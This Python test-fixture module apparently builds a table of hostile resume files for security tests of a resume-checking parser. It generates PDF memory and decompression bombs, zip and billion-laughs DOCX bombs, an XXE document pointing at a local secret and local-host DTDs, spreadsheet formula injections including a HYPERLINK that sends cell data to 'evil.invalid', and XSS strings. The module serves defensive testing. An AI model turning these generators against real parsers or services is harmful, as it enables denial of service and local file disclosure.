"""Every hostile input of the security table, generated on the fly (no checked-in binaries).

Each builder returns bytes; :func:`write_corpus` writes them all into a folder, one file per
:class:`Case`, with the name (and so the extension) a hostile sender would choose.  PDFs are
written as raw bytes where the malformed structure must be exact; the heavy ones (a content
stream inflating to hundreds of MB, 20,000 pages) share objects so generation stays fast and
small on disk.  ``MARKER`` is a string planted in resume text, so tests can prove it never
reaches a log and is never read from a file the parser must not open.
"""

from __future__ import annotations

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

MARKER = "Zqxvmarker7319"  # planted in resume text; must never reach a log
SECRET = "Secretlocalfile4471"  # held by a local file an external entity points at

RESUME = (
    f"Jane {MARKER}\njane@example.com\n\nSkills\nPython, PyTorch, Kubernetes, CUDA\n\n"
    "Experience\nMachine learning engineer at Acme, 2019 - 2024\nBuilt training pipelines.\n"
)

# --- PDF --------------------------------------------------------------------------------------


def pdf_from_objects(
    objects: list[bytes], *, trailer: bytes = b"", header: bytes = b"1.4"
) -> bytes:
    """A PDF from numbered object bodies (object 1 is the catalog), with a correct xref."""
    out = bytearray(b"%PDF-" + header + b"\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % off for off in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R %s>>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1, trailer, xref
    )
    return bytes(out)


def _stream(data: bytes, extra: bytes = b"") -> bytes:
    return b"<< /Length %d %s>>\nstream\n" % (len(data), extra) + data + b"\nendstream"


_FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>"


def _content(lines: list[str]) -> bytes:
    ops = [b"BT /F1 11 Tf 72 720 Td 14 TL"]
    for line in lines:
        escaped = line.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)")
        ops.append(b"(" + escaped.encode("latin-1") + b") Tj T*")
    ops.append(b"ET")
    return b"\n".join(ops)


def text_pdf(text: str = RESUME, *, page_extra: bytes = b"", resources: bytes = b"") -> bytes:
    """A one-page PDF drawing ``text`` line by line in Helvetica."""
    return pdf_from_objects([
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> " + resources + b">> " + page_extra + b">>",
        _stream(_content(text.splitlines())),
        _FONT,
    ])


def truncated_pdf() -> bytes:
    data = text_pdf()
    return data[: len(data) // 3]


def encrypted_pdf(user_password: str, owner_password: str) -> bytes:
    """A reportlab PDF with RC4/AES standard security (reportlab is a test dependency)."""
    from reportlab.lib.pdfencrypt import StandardEncryption
    from reportlab.pdfgen.canvas import Canvas

    buffer = io.BytesIO()
    enc = StandardEncryption(user_password, ownerPassword=owner_password, canPrint=0,
                             canModify=0, canCopy=0, canAnnotate=0)
    canvas = Canvas(buffer, invariant=1, encrypt=enc)
    canvas.setFont("Helvetica", 11)
    for i, line in enumerate(RESUME.splitlines()):
        canvas.drawString(72, 720 - 14 * i, line)
    canvas.showPage()
    canvas.save()
    return buffer.getvalue()


def self_prev_pdf() -> bytes:
    """An incremental update whose trailer's /Prev points at its own xref section."""
    base = text_pdf()
    xref = len(base)
    update = (
        b"xref\n0 1\n0000000000 65535 f \ntrailer\n<< /Size 6 /Root 1 0 R /Prev %d >>\n"
        b"startxref\n%d\n%%%%EOF\n" % (xref, xref)
    )
    return base + update


def form_cycle_pdf() -> bytes:
    """Two Form XObjects that draw each other (and the page draws the first)."""
    def form(other: int, name: bytes) -> bytes:
        res = b"/BBox [0 0 612 792] /Resources << /XObject << /" + name + b" %d 0 R >> >>" % other
        return _stream(b"/" + name + b" Do", b"/Type /XObject /Subtype /Form " + res + b" ")

    return pdf_from_objects([
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        b"/Resources << /XObject << /Fa 5 0 R >> >> >>",
        _stream(b"/Fa Do"),
        form(6, b"Fb"),
        form(5, b"Fa"),
    ])


def form_bomb_pdf(fan_out: int = 2) -> bytes:
    """Two Form XObjects that each draw the other ``fan_out`` times: PDFium expands
    fan_out^depth drawings and exhausts any memory from a 1 KB file."""
    def form(other: int, name: bytes) -> bytes:
        res = b"/BBox [0 0 612 792] /Resources << /XObject << /" + name + b" %d 0 R >> >>" % other
        return _stream((b"/" + name + b" Do\n") * fan_out,
                       b"/Type /XObject /Subtype /Form " + res + b" ")

    return pdf_from_objects([
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        b"/Resources << /XObject << /Fa 5 0 R >> >> >>",
        _stream(b"/Fa Do"),
        form(6, b"Fb"),
        form(5, b"Fa"),
    ])


def nested_arrays_pdf(depth: int = 100_000) -> bytes:
    """100,000 nested arrays in the page dictionary and as a content-stream operand."""
    nested = b"[" * depth + b"]" * depth
    return pdf_from_objects([
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> /Deep " + nested + b" >>",
        _stream(nested + b" pop\n" + _content(RESUME.splitlines())),
        _FONT,
    ])


def inflating_pdf(inflated_mb: int = 300) -> bytes:
    """A content stream of ``inflated_mb`` MB of spaces (then one text line), FlateDecode'd
    ~1000:1, so the file is a few hundred KB."""
    comp = zlib.compressobj(9)
    chunk = b" " * (1 << 20)
    parts = [comp.compress(chunk) for _ in range(inflated_mb)]
    parts.append(comp.compress(_content(["Inflated resume"])))
    parts.append(comp.flush())
    data = b"".join(parts)
    return pdf_from_objects([
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> >>",
        _stream(data, b"/Filter /FlateDecode "),
        _FONT,
    ])


def many_pages_pdf(pages: int = 20_000) -> bytes:
    """``pages`` page objects that share one content stream and one font."""
    first_page = 5
    kids = b" ".join(b"%d 0 R" % (first_page + i) for i in range(pages))
    page = (b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 3 0 R "
            b"/Resources << /Font << /F1 4 0 R >> >> >>")
    return pdf_from_objects([
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [" + kids + b"] /Count %d >>" % pages,
        _stream(_content(["Page of a very long resume", "Python and PyTorch"])),
        _FONT,
        *([page] * pages),
    ])


def image_only_pdf() -> bytes:
    """One page that draws a 2x2 grey image and no text at all."""
    image = _stream(b"\x00\xff\xff\x00", b"/Type /XObject /Subtype /Image /Width 2 /Height 2 "
                    b"/ColorSpace /DeviceGray /BitsPerComponent 8 ")
    return pdf_from_objects([
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        b"/Resources << /XObject << /Im1 5 0 R >> >> >>",
        _stream(b"q 500 0 0 700 50 50 cm /Im1 Do Q"),
        image,
    ])


# --- DOCX -------------------------------------------------------------------------------------

W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_PKG_RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
DOC_CT = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
DOCM_CT = "application/vnd.ms-word.document.macroEnabled.main+xml"


def _rels(inner: str) -> str:
    return f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{_PKG_RELS}">{inner}' \
           "</Relationships>"


def para(text: str) -> str:
    return f'<w:p><w:r><w:t xml:space="preserve">{text}</w:t></w:r></w:p>'


def docx(body: str, *, prolog: str = "", parts: dict[str, str | bytes] | None = None,
         doc_rels: str = "", content_type: str = DOC_CT, document: str | bytes | None = None
         ) -> bytes:
    """A minimal Word package around ``body`` (the children of w:body)."""
    files: dict[str, str | bytes] = {
        "[Content_Types].xml": (
            '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.'
            'org/package/2006/content-types"><Default Extension="rels" ContentType="application/'
            'vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" '
            'ContentType="application/xml"/><Override PartName="/word/document.xml" '
            f'ContentType="{content_type}"/></Types>'
        ),
        "_rels/.rels": _rels(f'<Relationship Id="rId1" Type="{REL}/officeDocument" '
                             'Target="word/document.xml"/>'),
        "word/document.xml": document if document is not None else (
            f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>{prolog}'
            f'<w:document xmlns:w="{W_NS}" xmlns:r="{REL}"><w:body>{body}</w:body></w:document>'
        ),
        "word/_rels/document.xml.rels": _rels(doc_rels),
    }
    files.update(parts or {})
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, content in files.items():
            zf.writestr(name, content)
    return buf.getvalue()


def resume_docx() -> bytes:
    return docx("".join(para(line) for line in RESUME.splitlines()))


def forge_declared_size(data: bytes, name: str, size: int) -> bytes:
    """Make the central directory and local header of ``name`` declare ``size`` bytes."""
    encoded, out = name.encode(), bytearray(data)
    found = False
    for sig, size_at, name_len_at, name_at in ((b"PK\x01\x02", 24, 28, 46),
                                                (b"PK\x03\x04", 22, 26, 30)):
        pos = out.find(sig)
        while pos != -1:
            name_len = struct.unpack_from("<H", out, pos + name_len_at)[0]
            if bytes(out[pos + name_at: pos + name_at + name_len]) == encoded:
                struct.pack_into("<I", out, pos + size_at, size)
                found = True
            pos = out.find(sig, pos + 4)
    if not found:
        raise KeyError(name)
    return bytes(out)


def zip_bomb_docx() -> bytes:
    """A small DOCX whose document.xml declares 1 GiB uncompressed."""
    return forge_declared_size(resume_docx(), "word/document.xml", 1 << 30)


def ratio_bomb_docx(mb: int = 8) -> bytes:
    """A real, highly compressible document.xml (``mb`` MB of spaces in a run, ~1000:1)."""
    spaces = " " * (mb << 20)
    return docx(f'<w:p><w:r><w:t xml:space="preserve">{spaces}</w:t></w:r></w:p>')


def xxe_docx(secret_path: Path) -> bytes:
    """document.xml declares an external entity for a local file and one for a URL."""
    prolog = (
        f'<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "{secret_path.as_uri()}">'
        '<!ENTITY remote SYSTEM "http://127.0.0.1:9/xxe.xml">'
        '<!ENTITY % dtd SYSTEM "http://127.0.0.1:9/evil.dtd"> %dtd;]>'
    )
    return docx(para("Jane Doe") + para("&xxe;") + para("&remote;") + para("Python"),
                prolog=prolog)


def billion_laughs_docx() -> bytes:
    ents = ['<!ENTITY lol0 "lollollollollollollollollollol">']
    ents += [f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10)]
    prolog = "<!DOCTYPE w:document [" + "".join(ents) + "]>"
    return docx(para("Jane Doe") + para("&lol9;"), prolog=prolog)


def deep_docx(depth: int = 300_000) -> bytes:
    """300,000 nested elements (content controls, w:sdt/w:sdtContent) around one paragraph;
    random ids keep the part under the compression-ratio limit, so the depth is what is met."""
    rng = random.Random(7319)
    opening = "".join(f'<w:sdt w:id="{rng.getrandbits(40)}"><w:sdtContent>'
                      for _ in range(depth // 2))
    closing = "</w:sdtContent></w:sdt>" * (depth // 2)
    return docx(opening + para("Deep text") + closing)


def remote_template_docx() -> bytes:
    """settings.xml attaches a template by URL; an image and a header are linked by URL."""
    settings = f'<w:settings xmlns:w="{W_NS}" xmlns:r="{REL}"><w:attachedTemplate r:id="rId1"/>' \
               "</w:settings>"
    return docx(
        para("Remote template resume"),
        doc_rels=(
            f'<Relationship Id="rId9" Type="{REL}/settings" Target="settings.xml"/>'
            f'<Relationship Id="rId10" Type="{REL}/image" '
            'Target="http://127.0.0.1:9/track.png" TargetMode="External"/>'
            f'<Relationship Id="rId11" Type="{REL}/attachedTemplate" '
            'Target="http://127.0.0.1:9/template.dotx" TargetMode="External"/>'
        ),
        parts={
            "word/settings.xml": settings,
            "word/_rels/settings.xml.rels": _rels(
                f'<Relationship Id="rId1" Type="{REL}/attachedTemplate" '
                'Target="http://127.0.0.1:9/template.dotx" TargetMode="External"/>'
            ),
        },
    )


def docm() -> bytes:
    return docx(para("Macro resume"), content_type=DOCM_CT,
                parts={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 64})


# --- text -------------------------------------------------------------------------------------

INJECTION = (  # one keyword-set term per line, so every line is quoted as evidence
    '=HYPERLINK("http://evil.invalid/?x="&A1,"click") PyTorch\n'
    "+cmd|' /C calc'!A0 TensorFlow\n@SUM(1+1)*cmd CUDA\n-2+3+cmd JAX\n"
    "<script>alert(1)</script> Transformers\n<img src=x onerror=alert(2)> Calculus\n"
    "[link](javascript:alert(3)) Deep learning\nGPU TPU\n"
)
INJECTION_MARKS = ("<script>", "<img", "onerror=alert(2)>", "javascript:alert")
"""Strings that must not appear unescaped (as live markup) in an HTML or Markdown report."""


def one_long_line(mb: int) -> bytes:
    return b"Python " * ((mb << 20) // 7)


def mz_executable() -> bytes:
    """A DOS/PE header followed by mostly printable bytes (few control characters)."""
    header = bytearray(b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00")
    header += b"\xb8" + b"\x00" * 7 + b"\x40" + b"\x00" * 35 + struct.pack("<I", 0x80)
    stub = b"This program cannot be run in DOS mode.\r\r\n$" + b"\x00" * 20
    return bytes(header) + stub + b"PE\x00\x00" + b"A" * 8000


# --- the table --------------------------------------------------------------------------------


@dataclass(frozen=True, slots=True)
class Case:
    """One hostile file: the name it arrives under, how to build it, and what must happen.

    ``expect``: "error" (a per-file ResumeCheckerError whose code is ``code`` and whose message
    holds ``reason``), or "read" (read normally; ``notice`` names a notice that must appear).
    ``isolated``: only safe in a child process with the memory limit (never parse it in the
    test process: it takes all the memory there is).
    """

    name: str
    build: Callable[[Path], bytes]
    expect: str
    code: str | None = None
    reason: str = ""
    notice: str | None = None
    isolated: bool = False


CASES: tuple[Case, ...] = (
    Case("zero.pdf", lambda _: b"", "error", "unreadable", "empty"),
    Case("truncated.pdf", lambda _: truncated_pdf(), "error", "unreadable", "PDF"),
    Case("text_named.pdf", lambda _: RESUME.encode(), "read"),
    Case("pdf_named.docx", lambda _: text_pdf(), "read"),
    Case("docx_named.pdf", lambda _: resume_docx(), "read"),
    Case("user_password.pdf", lambda _: encrypted_pdf("user", "owner"), "error",
         "password_protected", "password-protected"),
    Case("owner_password.pdf", lambda _: encrypted_pdf("", "owner"), "read"),
    Case("self_prev.pdf", lambda _: self_prev_pdf(), "read"),
    Case("form_cycle.pdf", lambda _: form_cycle_pdf(), "read", notice="no_text_layer"),
    Case("form_bomb.pdf", lambda _: form_bomb_pdf(), "error", "limit_exceeded", "memory",
         isolated=True),
    Case("nested_arrays.pdf", lambda _: nested_arrays_pdf(), "read"),
    Case("inflating.pdf", lambda _: inflating_pdf(), "error", "limit_exceeded",
         "decompression bomb"),
    Case("many_pages.pdf", lambda _: many_pages_pdf(), "read", notice="page_limit"),
    Case("image_only.pdf", lambda _: image_only_pdf(), "read", notice="no_text_layer"),
    Case("zip_bomb.docx", lambda _: zip_bomb_docx(), "error", "limit_exceeded", "zip bomb"),
    Case("ratio_bomb.docx", lambda _: ratio_bomb_docx(), "error", "limit_exceeded", "to 1"),
    Case("xxe.docx", lambda d: xxe_docx(d / "secret.txt"), "read"),
    Case("billion_laughs.docx", lambda _: billion_laughs_docx(), "error", "unreadable", "entity"),
    Case("deep.docx", lambda _: deep_docx(), "error", "unreadable",
         "nested too deeply (more than 256 levels) in the main text (word/document.xml)"),
    Case("remote_template.docx", lambda _: remote_template_docx(), "read"),
    Case("macro.docm", lambda _: docm(), "error", "unsupported_format", "macro"),
    Case("cp1252.txt", lambda _: ("Résumé – Zoë " + RESUME).encode("cp1252"), "read",
         notice="fallback_encoding"),
    Case("utf16.txt", lambda _: ("\ufeffRésumé " + RESUME).encode("utf-16-le"), "read"),
    Case("invalid_utf8.txt", lambda _: RESUME.encode() + b"\xff\xfe\xc3(\x80 end", "read",
         notice="fallback_encoding"),
    Case("nul_bytes.txt", lambda _: RESUME.replace("Skills", "Sk\x00ills").encode(), "read",
         notice="nul_removed"),
    Case("long_line.txt", lambda _: one_long_line(3), "read", notice="text_limit"),
    Case("huge_line.txt", lambda _: one_long_line(50), "error", "limit_exceeded", "20 MB"),
    Case("injection.txt", lambda _: INJECTION.encode(), "read"),
    Case('=HYPERLINK("http:__evil.invalid","x").txt', lambda _: RESUME.encode(), "read"),
    Case("<img src=x onerror=alert(1)>.txt", lambda _: RESUME.encode(), "read"),
    Case("@SUM(1+1).md", lambda _: INJECTION.encode(), "read"),
    Case("program.txt", lambda _: mz_executable(), "error", "unsupported_format", "program"),
)
"""The hostile table (symlinks are made by :func:`write_symlinks`)."""


def write_corpus(folder: Path, cases: tuple[Case, ...] = CASES) -> dict[str, Path]:
    """Write every case into ``folder`` (and the local secret an entity points at)."""
    folder.mkdir(parents=True, exist_ok=True)
    secret_dir = folder.parent / f"{folder.name}-outside"
    secret_dir.mkdir(exist_ok=True)
    (secret_dir / "secret.txt").write_text(f"{SECRET}\n")
    out = {}
    for case in cases:
        path = folder / case.name
        path.write_bytes(case.build(secret_dir))
        out[case.name] = path
    return out


def write_symlinks(folder: Path) -> tuple[Path, Path]:
    """A symlink to a resume outside ``folder`` and a directory symlink loop inside it."""
    outside = folder.parent / f"{folder.name}-outside" / "outside_resume.txt"
    outside.parent.mkdir(parents=True, exist_ok=True)
    outside.write_text(f"Outside {SECRET}\nPython\n")
    link = folder / "link_outside.txt"
    link.symlink_to(outside)
    loop_dir = folder / "loop"
    loop_dir.mkdir()
    (loop_dir / "again").symlink_to(loop_dir, target_is_directory=True)
    return link, loop_dir
